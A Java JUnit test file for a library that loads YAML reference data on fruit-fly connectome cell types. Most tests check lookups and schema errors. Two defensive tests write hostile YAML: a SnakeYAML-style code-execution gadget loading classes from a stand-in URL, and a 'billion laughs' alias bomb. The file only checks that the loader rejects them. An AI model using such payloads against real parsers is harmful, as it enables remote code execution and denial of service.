package org.neuromechfly.dmn.connectome.reference;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.neuromechfly.dmn.connectome.ConnectomeException;
import org.neuromechfly.dmn.model.Sign;
import org.neuromechfly.dmn.model.Transmitter;

class ReferenceDataTest {

  private final ReferenceData data = ReferenceData.bundled();

  @Test
  void everyTypeIsCitedAndSane() {
    assertTrue(data.cellTypes().size() >= 14);
    for (CellType type : data.cellTypes()) {
      assertFalse(type.count().source().isBlank(), type.name());
      assertTrue(type.citation("transmitter").isPresent(), type.name());
      assertTrue(type.citation("graded").isPresent(), type.name());
      assertTrue(type.count().low() >= 1, type.name());
      // Time constants are in seconds: milliseconds would give values above 1.
      assertTrue(type.tauMem().high() < 1 && type.tauMem().low() > 0, type.name());
    }
  }

  @Test
  void aliasesAndSubtypes() {
    CellType pn = data.cellType("PN").orElseThrow();
    assertEquals("uPN", pn.name());
    assertEquals(Transmitter.ACETYLCHOLINE, pn.transmitter());
    assertEquals(Sign.EXCITATORY, pn.sign());
    assertEquals("uPN", data.cellType("upn").orElseThrow().name());

    CellType kcg = data.cellType("KCg").orElseThrow();
    assertEquals("KC", kcg.parent());
    assertEquals(697, kcg.count().high());
    // Inherited from KC.
    assertEquals(Transmitter.ACETYLCHOLINE, kcg.transmitter());
    assertEquals(0.020, kcg.tauMem().typical(), 1e-12);
    assertTrue(data.isA("KCg", "KC"));
    assertFalse(data.isA("KC", "KCg"));

    CellType apl = data.cellType("APL").orElseThrow();
    assertTrue(apl.graded());
    assertEquals(Sign.INHIBITORY, apl.sign());
    assertEquals(Sign.MODULATORY, data.cellType("PAM").orElseThrow().sign());
    assertEquals("DAN", data.cellType("PPL1").orElseThrow().parent());
    assertTrue(data.cellType("Neuron").isEmpty());
  }

  @Test
  void projectionsLookThroughAliasesAndParents() {
    KnownProjection pnKc = data.projection("PN", "KCg").orElseThrow();
    assertEquals("uPN", pnKc.preType());
    assertEquals("KC", pnKc.postType());
    assertEquals(6.5, pnKc.fanIn().typical());
    assertTrue(data.projection("KCab", "MBON").isPresent());
    assertTrue(data.projection("PAM", "KC").isPresent());
    assertTrue(data.projection("KC", "ORN").isEmpty());
    assertTrue(data.projection("nobody", "KC").isEmpty());
  }

  @Test
  void nearestNamesSuggestTypos() {
    assertEquals("KC", data.nearest("KX", 3).get(0));
    assertTrue(data.nearest("MBNO", 3).contains("MBON"));
    assertTrue(data.nearest("uPNN", 1).contains("uPN"));
    assertTrue(data.nearest("completely-unrelated-name", 3).isEmpty());
  }

  @Test
  void kcSparsity() {
    Range s = data.kcSparsity();
    assertEquals(0.02, s.low());
    assertEquals(0.10, s.high());
    assertTrue(s.source().contains("Honegger"));
  }

  @Test
  void loadsAUserFile(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("mine.yaml");
    Files.writeString(file, MINIMAL);
    ReferenceData mine = ReferenceData.load(file);
    assertEquals(1, mine.cellTypes().size());
    assertEquals(Transmitter.GABA, mine.cellType("X").orElseThrow().transmitter());
    assertTrue(mine.cellType("X").orElseThrow().tauMem() == null);
  }

  @Test
  void rejectsCodeExecutionTags(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("evil.yaml");
    Files.writeString(
        file,
        "format: 1\nkc_sparsity: !!javax.script.ScriptEngineManager "
            + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n"
            + "cell_types: []\n");
    ConnectomeException e = assertThrows(ConnectomeException.class, () -> ReferenceData.load(file));
    assertTrue(e.getMessage().startsWith(file + ":2:"), e.getMessage());
    assertTrue(e.getMessage().contains("plain data"), e.getMessage());
  }

  @Test
  void rejectsBillionLaughs(@TempDir Path dir) throws IOException {
    StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    char previous = 'a';
    for (char c = 'b'; c <= 'i'; c++) {
      yaml.append(c).append(": &").append(c).append(" [");
      for (int k = 0; k < 9; k++) {
        yaml.append(k == 0 ? "" : ",").append('*').append(previous);
      }
      yaml.append("]\n");
      previous = c;
    }
    Path file = dir.resolve("laughs.yaml");
    Files.writeString(file, yaml);
    ConnectomeException e = assertThrows(ConnectomeException.class, () -> ReferenceData.load(file));
    assertTrue(e.getMessage().startsWith(file.toString()), e.getMessage());
    assertTrue(e.getMessage().contains("aliases"), e.getMessage());
  }

  @Test
  void schemaErrorsNameLineAndFix(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("bad.yaml");
    Files.writeString(file, MINIMAL.replace("low: 1, high: 3", "low: many, high: 3"));
    ConnectomeException e = assertThrows(ConnectomeException.class, () -> ReferenceData.load(file));
    assertEquals(8, e.line(), e.getMessage());
    assertTrue(e.getMessage().contains("X.count.low must be a number"), e.getMessage());

    Files.writeString(file, MINIMAL.replace("value: GABA", "value: Glutamine"));
    e = assertThrows(ConnectomeException.class, () -> ReferenceData.load(file));
    assertEquals(6, e.line(), e.getMessage());
    assertTrue(e.getMessage().contains("unknown transmitter 'Glutamine'"), e.getMessage());

    Files.writeString(file, MINIMAL.replace("    graded:", "    gradde:"));
    e = assertThrows(ConnectomeException.class, () -> ReferenceData.load(file));
    assertTrue(e.getMessage().contains("unknown key 'gradde'"), e.getMessage());

    Files.writeString(file, "format: 1\nkc_sparsity: [unclosed\n");
    e = assertThrows(ConnectomeException.class, () -> ReferenceData.load(file));
    assertTrue(e.line() > 0 && e.getMessage().contains("not valid YAML"), e.getMessage());

    e = assertThrows(ConnectomeException.class, () -> ReferenceData.load(dir.resolve("none.yaml")));
    assertTrue(e.getMessage().contains("not found"), e.getMessage());
  }

  private static final String MINIMAL =
      """
      format: 1
      kc_sparsity: { low: 0.02, high: 0.1, source: "test" }
      cell_types:
        - name: X
          aliases: [Ex]
          transmitter: { value: GABA, source: "test" }
          graded: { value: false, source: "test" }
          count: { low: 1, high: 3, source: "test" }
      """;
}
